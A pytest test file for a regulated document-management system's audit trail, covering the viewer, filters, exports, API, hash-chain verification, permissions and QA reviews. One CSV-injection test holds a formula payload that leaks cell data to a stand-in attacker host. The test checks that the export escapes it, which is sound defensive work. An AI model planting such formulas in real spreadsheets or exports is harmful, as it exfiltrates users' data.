"""Reading the audit trail: viewer, exports, API, verification page, reviews (11.10(e), 11.10(b), Annex 11 §9)."""
from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, date, datetime
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import select

from edms.audit import AuditContext, record
from edms.audit.chain import event_hash
from edms.audit.models import AuditCheckpoint, AuditEvent, AuditReview
from edms.audit.search import FilterError, parse_filter
from edms.db import transaction
from edms.timeutil import utc_now
from tests.conftest import PASSWORD, csrf_token, sign_in


def append(app, action, object_type="document", object_id=None, **kwargs):
    ctx = kwargs.pop("ctx", AuditContext(user_id=None, user_name="Kenji Sato", client_addr="10.0.0.9"))
    with transaction(app.extensions["edms"].sessions) as session:
        return record(session, ctx, action, object_type, object_id, **kwargs).seq


def events_where(app, **criteria):
    with app.extensions["edms"].sessions() as session:
        query = select(AuditEvent).order_by(AuditEvent.seq)
        for name, value in criteria.items():
            query = query.where(getattr(AuditEvent, name) == value)
        return session.scalars(query).all()


def shown_seqs(html: str) -> list[int]:
    return [int(part.split('"', 1)[0]) for part in html.split('<tr data-seq="')[1:]]


def prefilled(html: str, name: str) -> int:
    return int(re.search(rf'name="{name}"[^>]*value="(\d+)"', html).group(1))


def token_for(client, username):
    response = client.post("/api/v1/auth/token", json={"username": username, "password": PASSWORD})
    assert response.status_code == 201, response.get_json()
    return {"Authorization": f"Bearer {response.get_json()['token']}"}


@pytest.fixture
def story(app, people):
    """A small OOS story: a QC analyst drafts, QA reviews, a physician signs, on one case."""
    author = people.make("kenji.sato", "author", printed_name="Kenji Sato")
    qa = people.make("akiko.tanaka", "qa", printed_name="Akiko Tanaka")
    as_author = AuditContext(author.id, "Kenji Sato", "10.0.0.9")
    as_qa = AuditContext(qa.id, "Akiko Tanaka", "10.0.0.7")
    append(app, "document.created", "document", "DOC-0001", ctx=as_author, case_id="OOS-2026-0007", document_version=1,
           changes={"title": {"old": None, "new": "OOS notification 細胞製品"}})
    append(app, "document.updated", "document", "DOC-0001", ctx=as_author, case_id="OOS-2026-0007", document_version=1,
           changes={"title": {"old": "OOS notification 細胞製品", "new": "OOS notification, lot 42"}},
           reason="Lot number added after QC review")
    append(app, "document.submitted", "document", "DOC-0001", ctx=as_author, case_id="OOS-2026-0007", document_version=1)
    append(app, "document.created", "document", "DOC-0002", ctx=as_qa, case_id="OOS-2026-0008", document_version=1)
    return {"author": author, "qa": qa}


@pytest.mark.req("11.10(e)")
@pytest.mark.req("A11-9")
def test_the_viewer_shows_who_what_when_with_zone_why_and_old_to_new(app, story, admin_client):
    html = admin_client.get("/audit?object_type=document&object_id=DOC-0001").get_data(as_text=True)
    updated = events_where(app, action="document.updated")[0]
    assert shown_seqs(html) == [event.seq for event in events_where(app, object_id="DOC-0001")][::-1]
    assert "Kenji Sato" in html and "Lot number added after QC review" in html
    assert "<del>OOS notification 細胞製品</del> → <ins>OOS notification, lot 42</ins>" in html
    local = updated.occurred_at.astimezone(ZoneInfo("Asia/Tokyo"))  # the administrator's time zone
    assert f"{local:%Y-%m-%d %H:%M:%S} JST (UTC+09:00)" in html


@pytest.mark.req("11.10(e)")
@pytest.mark.parametrize("query, expected", [
    ("action=document.created", {"document.created"}),
    ("case_id=OOS-2026-0008", {"document.created"}),
    ("user=akiko.tanaka", {"document.created"}),
    ("object_id=DOC-0001&document_version=1", {"document.created", "document.updated", "document.submitted"}),
])
def test_the_viewer_filters_by_action_case_user_object_and_version(app, story, admin_client, query, expected):
    html = admin_client.get(f"/audit?{query}").get_data(as_text=True)
    shown = [event for event in events_where(app) if event.seq in shown_seqs(html)]
    assert shown and {event.action for event in shown} == expected


def test_an_unknown_user_or_a_bad_date_is_explained_not_an_error(story, admin_client):
    html = admin_client.get("/audit?user=nobody.here").get_data(as_text=True)
    assert "There is no user named" in html and 'id="audit-events"' not in html
    html = admin_client.get("/audit?from=25/11/2026").get_data(as_text=True)
    assert "must be a date" in html


@pytest.mark.req("11.10(e)")
def test_dates_are_whole_days_in_the_viewer_time_zone_and_stored_times_are_utc():
    tokyo = parse_filter({"from": "2026-03-10", "to": "2026-03-10"}, "Asia/Tokyo", lambda name: None)
    assert tokyo.since == datetime(2026, 3, 9, 15, 0, tzinfo=UTC)
    assert tokyo.until == datetime(2026, 3, 10, 15, 0, tzinfo=UTC)
    new_york = parse_filter({"from": "2026-03-08"}, "America/New_York", lambda name: None)  # DST begins that day
    assert new_york.since == datetime(2026, 3, 8, 5, 0, tzinfo=UTC)
    exact = parse_filter({"to": "2026-03-10T12:00:00+09:00"}, "UTC", lambda name: None)
    assert exact.until == datetime(2026, 3, 10, 3, 0, tzinfo=UTC)
    with pytest.raises(FilterError):
        parse_filter({"to": "2026-03-10T12:00:00"}, "UTC", lambda name: None)  # no offset: ambiguous


def test_the_date_filter_includes_today_and_excludes_tomorrow_in_the_viewer_zone(story, admin_client):
    today = utc_now().astimezone(ZoneInfo("Asia/Tokyo")).date()
    tomorrow = date.fromordinal(today.toordinal() + 1)
    assert shown_seqs(admin_client.get(f"/audit?from={today}&to={today}").get_data(as_text=True))
    assert shown_seqs(admin_client.get(f"/audit?from={tomorrow}").get_data(as_text=True)) == []


@pytest.mark.req("11.10(e)")
def test_the_viewer_pages_through_the_trail_by_seq_newest_first(app, admin_client):
    for number in range(120):
        append(app, "test.appended", "test", number)
    wanted = [event.seq for event in events_where(app, action="test.appended")][::-1]
    first = admin_client.get("/audit?action=test.appended").get_data(as_text=True)
    assert shown_seqs(first) == wanted[:50] and 'id="newer-page"' not in first
    second = admin_client.get(f"/audit?action=test.appended&before={wanted[49]}").get_data(as_text=True)
    third = admin_client.get(f"/audit?action=test.appended&before={wanted[99]}").get_data(as_text=True)
    assert shown_seqs(second) == wanted[50:100] and shown_seqs(third) == wanted[100:]
    assert 'id="older-page"' not in third
    back = admin_client.get(f"/audit?action=test.appended&after={wanted[50]}").get_data(as_text=True)
    assert shown_seqs(back) == wanted[:50]


@pytest.mark.req("11.10(b)")
@pytest.mark.req("A11-9")
def test_the_csv_export_holds_every_filtered_event_exactly_and_is_itself_audited(app, story, admin_client):
    response = admin_client.get("/audit/export.csv?case_id=OOS-2026-0007")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment;" in response.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    expected = events_where(app, case_id="OOS-2026-0007")
    assert [int(row["seq"]) for row in rows] == [event.seq for event in expected]
    updated = next(row for row in rows if row["action"] == "document.updated")
    assert updated["actor_name"] == "Kenji Sato" and updated["reason"] == "Lot number added after QC review"
    assert json.loads(updated["changes"])["title"]["new"] == "OOS notification, lot 42"
    assert updated["occurred_at_local"].endswith("JST (UTC+09:00)")
    assert [row["hash"] for row in rows] == [event.hash for event in expected]
    exported = events_where(app, action="audit.exported")[-1]
    assert exported.actor_name == "Daisuke Kato"
    assert json.loads(exported.changes)["filter"]["new"] == {"case_id": "OOS-2026-0007"}


def test_a_reason_typed_like_a_formula_is_exported_as_text_not_as_a_formula(app, story, admin_client):
    """CSV injection: opening the export in a spreadsheet must never run what a user typed."""
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"details")'
    append(app, "document.updated", "document", "DOC-0001", case_id="OOS-2026-0007", document_version=1,
           ctx=AuditContext(story["author"].id, "Kenji Sato", "10.0.0.9"), reason=formula,
           changes={"title": {"old": "OOS notification, lot 42", "new": "-1 lot"}})
    rows = list(csv.DictReader(io.StringIO(
        admin_client.get("/audit/export.csv?case_id=OOS-2026-0007").get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[-1]["reason"] == "'" + formula
    assert json.loads(rows[-1]["changes"])["title"]["new"] == "-1 lot"  # inside JSON: not a cell start
    stored = [json.loads(line) for line in admin_client.get("/audit/export.jsonl").get_data(as_text=True).splitlines()]
    assert formula in [event["reason"] for event in stored]  # the JSON Lines copy stays exact


@pytest.mark.req("11.10(b)")
@pytest.mark.req("ALCOA+")
def test_the_json_lines_export_can_be_rehashed_to_the_stored_chain(app, story, admin_client):
    response = admin_client.get("/audit/export.jsonl")
    assert response.status_code == 200
    lines = [json.loads(line) for line in response.get_data(as_text=True).splitlines()]
    # The whole chain as it stood when the export was asked for: its own event is the next one.
    exported = events_where(app, action="audit.exported")[-1]
    assert [line["seq"] for line in lines] == list(range(1, exported.seq))
    previous = "0" * 64
    for line in lines:
        fields = {**{key: value for key, value in line.items() if key not in ("actor", "hash")},
                  "actor_id": line["actor"]["id"], "actor_name": line["actor"]["name"],
                  "changes": json.dumps(line["changes"], sort_keys=True, separators=(",", ":"), ensure_ascii=False)
                  if line["changes"] is not None else None}
        assert line["prev_hash"] == previous and event_hash(fields) == line["hash"]
        previous = line["hash"]


@pytest.mark.req("11.10(d)")
@pytest.mark.req("11.10(g)")
def test_an_author_cannot_read_or_export_the_audit_trail(app, story, client):
    sign_in(client, "kenji.sato")
    for url in ("/audit", "/audit/export.csv", "/audit/verify?run=1", "/audit/reviews"):
        assert client.get(url).status_code == 403, url
    assert client.get("/api/v1/audit", headers=token_for(client, "kenji.sato")).status_code == 403
    assert events_where(app, action="audit.exported") == []


@pytest.mark.req("11.10(e)")
def test_the_api_gives_the_same_filters_in_chain_order_with_keyset_pages(app, story, client, people):
    people.make("john.carter", "inspector", printed_name="John Carter")
    headers = token_for(client, "john.carter")
    expected = [event.seq for event in events_where(app, case_id="OOS-2026-0007")]
    first = client.get("/api/v1/audit?case_id=OOS-2026-0007&limit=2", headers=headers).get_json()
    assert [item["seq"] for item in first["items"]] == expected[:2] and first["next_after"] == expected[1]
    rest = client.get(f"/api/v1/audit?case_id=OOS-2026-0007&limit=2&after={first['next_after']}", headers=headers).get_json()
    assert [item["seq"] for item in rest["items"]] == expected[2:] and rest["next_after"] is None
    item = first["items"][1]
    assert item["actor"]["name"] == "Kenji Sato" and item["reason"] == "Lot number added after QC review"
    assert item["changes"]["title"] == {"old": "OOS notification 細胞製品", "new": "OOS notification, lot 42"}
    assert item["occurred_at"].endswith("Z")
    bad = client.get("/api/v1/audit?from=yesterday", headers=headers)
    assert bad.status_code == 400 and bad.get_json()["error"]["code"] == "invalid_filter"
    paths = client.get("/api/v1/openapi.json").get_json()["paths"]
    assert "get" in paths["/audit"] and "get" in paths["/audit/verify"]


@pytest.mark.req("11.10(a)")
@pytest.mark.req("11.10(e)")
def test_the_api_verifies_the_trail_and_the_run_is_audited(app, story, client, people, organisation_pki):
    people.make("john.carter", "inspector", printed_name="John Carter")
    report = client.get("/api/v1/audit/verify", headers=token_for(client, "john.carter")).get_json()
    assert report["ok"] is True and report["first_problem"] is None
    assert report["counts"]["audit_event"] >= 4
    verified = events_where(app, action="audit.verified")[-1]
    assert verified.actor_name == "John Carter" and json.loads(verified.changes)["outcome"]["new"] == "verified"


@pytest.mark.req("11.10(a)")
def test_the_verification_page_shows_the_report_to_admins(app, story, admin_client, organisation_pki):
    assert "Verify audit trail" in admin_client.get("/audit").get_data(as_text=True)
    page = admin_client.get("/audit/verify")
    made = admin_client.post("/audit/checkpoints", data={"csrf_token": csrf_token(page.get_data(as_text=True))})
    assert made.status_code == 302
    with app.extensions["edms"].sessions() as session:
        assert session.scalar(select(AuditCheckpoint.number)) == 1
    html = admin_client.get("/audit/verify?run=1").get_data(as_text=True)
    assert "Audit trail verified: no problem found." in html
    assert "Rows examined: audit_checkpoint" in html
    assert events_where(app, action="audit.verified")[-1].actor_name == "Daisuke Kato"


def test_inspectors_read_and_verify_but_cannot_sign_checkpoints_or_record_reviews(app, story, client, people):
    people.make("john.carter", "inspector", printed_name="John Carter")
    sign_in(client, "john.carter")
    assert client.get("/audit").status_code == 200
    assert "Audit trail verified" in client.get("/audit/verify?run=1").get_data(as_text=True)
    page = client.get("/audit/reviews").get_data(as_text=True)
    assert 'id="review-form"' not in page
    token = csrf_token(client.get("/audit/verify").get_data(as_text=True))
    assert client.post("/audit/checkpoints", data={"csrf_token": token}).status_code == 403
    assert client.post("/audit/reviews", data={"csrf_token": token}).status_code == 403


@pytest.mark.req("A11-9")
@pytest.mark.req("ERES-authenticity")
def test_qa_records_a_periodic_review_of_a_range_and_it_is_audited(app, story, client):
    sign_in(client, "akiko.tanaka")
    page = client.get("/audit/reviews").get_data(as_text=True)
    assert prefilled(page, "from_seq") == 1
    refused = client.post("/audit/reviews", data={"csrf_token": csrf_token(page), "from_seq": 1, "to_seq": 4,
                                                  "outcome": "no_findings", "findings": "  "})
    assert refused.status_code == 200 and not events_where(app, action="audit.reviewed")
    done = client.post("/audit/reviews", data={"csrf_token": csrf_token(page), "from_seq": 1, "to_seq": 4,
                                               "outcome": "findings_no_impact",
                                               "findings": "Title changed once with a reason; no gaps."})
    assert done.status_code == 302
    with app.extensions["edms"].sessions() as session:
        review = session.scalars(select(AuditReview)).one()
        first, last = session.get(AuditEvent, 1), session.get(AuditEvent, 4)
    assert (review.reviewer_name, review.from_seq, review.to_seq) == ("Akiko Tanaka", 1, 4)
    assert (review.period_start, review.period_end) == (first.occurred_at, last.occurred_at)
    event = events_where(app, action="audit.reviewed")[0]
    assert json.loads(event.changes)["outcome"]["new"] == "findings_no_impact"
    listed = client.get("/audit/reviews").get_data(as_text=True)
    assert "Title changed once with a reason; no gaps." in listed
    assert prefilled(listed, "from_seq") == 5  # the next review starts where this one ended
